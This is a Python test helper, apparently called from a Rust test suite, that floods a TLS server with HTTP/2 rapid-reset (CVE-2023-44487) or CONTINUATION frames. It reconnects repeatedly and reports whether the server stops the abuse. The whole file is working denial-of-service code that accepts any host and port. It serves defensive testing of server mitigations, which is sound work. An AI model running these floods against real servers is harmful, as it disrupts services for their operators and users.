"""HTTP/2 abuse against a TLS listener, driven by tests/h2flood.rs (needs PyPI's `h2`).

Usage: h2flood.py HOST PORT MODE COUNT SECONDS
  rapid-reset   on one connection, open COUNT streams (a complete GET each) and cancel each at
                once with RST_STREAM (CVE-2023-44487)
  continuation  one HEADERS frame without END_HEADERS, then up to COUNT CONTINUATION frames
                without END_HEADERS, never ending the header block (the 2024 CONTINUATION flood)
Like a real attacker it reconnects whenever the server stops a connection, for SECONDS.
Prints one JSON line: connections made, streams or frames sent in all and at most on one
connection, GOAWAY codes received, and how many connections were stopped by the server
(GOAWAY or close) rather than completing their COUNT.
"""

import json
import select
import socket
import ssl
import struct
import sys
import time

import h2.config
import h2.connection
from hyperframe.frame import ContinuationFrame, HeadersFrame
from hpack import Encoder


def connect(host, port):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(socket.create_connection((host, port), timeout=5), server_hostname="localhost")
    if sock.selected_alpn_protocol() != "h2":
        raise SystemExit("the server did not negotiate h2 (ALPN %r)" % sock.selected_alpn_protocol())
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


class Watch:
    """Reads what the server sends without blocking; spots GOAWAY and the close."""

    def __init__(self, sock):
        self.sock, self.buf = sock, b""
        self.goaway, self.closed, self.frames = None, False, 0

    def poll(self, wait=0.0):
        while not self.closed:
            ready, _, _ = select.select([self.sock], [], [], wait)
            if not ready and self.sock.pending() == 0:
                return
            self.sock.settimeout(0.05)  # a TLS record may still be incomplete
            try:
                data = self.sock.recv(65536)
            except (socket.timeout, ssl.SSLWantReadError, BlockingIOError):
                return
            except (OSError, ssl.SSLError):
                data = b""
            finally:
                self.sock.settimeout(5)
            if not data:
                self.closed = True
                return
            self.buf += data
            self.parse()

    def parse(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            kind = self.buf[3]
            if len(self.buf) < 9 + length:
                return
            payload = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            self.frames += 1
            if kind == 0x7 and len(payload) >= 8:
                self.goaway = struct.unpack(">I", payload[4:8])[0]


def rapid_reset(sock, conn, watch, count):
    headers = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/rapid-reset")]
    sent = 0
    while sent < count and not watch.closed and watch.goaway is None:
        for _ in range(min(100, count - sent)):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, headers, end_stream=True)
            conn.reset_stream(sid, error_code=8)  # CANCEL
            sent += 1
        try:
            sock.sendall(conn.data_to_send())
        except (OSError, ssl.SSLError):
            watch.closed = True
        watch.poll()
    return sent


def literal(name, value):
    # "Literal Header Field without Indexing -- New Name" (RFC 7541 6.2.2), short strings only.
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def continuation(sock, conn, watch, count):
    block = Encoder().encode([(":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", "/continuation")])
    first = HeadersFrame(1)
    first.data = block
    first.flags.add("END_STREAM")  # but never END_HEADERS
    sent = 0
    try:
        sock.sendall(first.serialize())
        while sent < count and not watch.closed and watch.goaway is None:
            batch = []
            for _ in range(min(100, count - sent)):
                frame = ContinuationFrame(1)
                frame.data = literal(b"x-flood-%d" % sent, b"a" * 100)
                batch.append(frame.serialize())
                sent += 1
            sock.sendall(b"".join(batch))
            watch.poll()
    except (OSError, ssl.SSLError):
        watch.closed = True
    return sent


def one_connection(host, port, mode, count):
    sock, conn = connect(host, port)
    watch = Watch(sock)
    sent = {"rapid-reset": rapid_reset, "continuation": continuation}[mode](sock, conn, watch, count)
    deadline = time.monotonic() + 3
    while not watch.closed and watch.goaway is None and time.monotonic() < deadline:
        watch.poll(0.2)
    sock.close()
    return sent, watch.goaway, watch.closed


def main():
    host, port, mode = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    count, seconds = int(sys.argv[4]), float(sys.argv[5])
    start = time.monotonic()
    report = {"mode": mode, "connections": 0, "sent": 0, "max_per_connection": 0,
              "goaway_codes": [], "stopped_by_server": 0, "completed": 0}
    while time.monotonic() - start < seconds:
        sent, goaway, closed = one_connection(host, port, mode, count)
        report["connections"] += 1
        report["sent"] += sent
        report["max_per_connection"] = max(report["max_per_connection"], sent)
        if goaway is not None and goaway not in report["goaway_codes"]:
            report["goaway_codes"].append(goaway)
        if sent < count and (goaway is not None or closed):
            report["stopped_by_server"] += 1
        elif sent == count:
            report["completed"] += 1
    report["seconds"] = round(time.monotonic() - start, 3)
    print(json.dumps(report), flush=True)


if __name__ == "__main__":
    main()
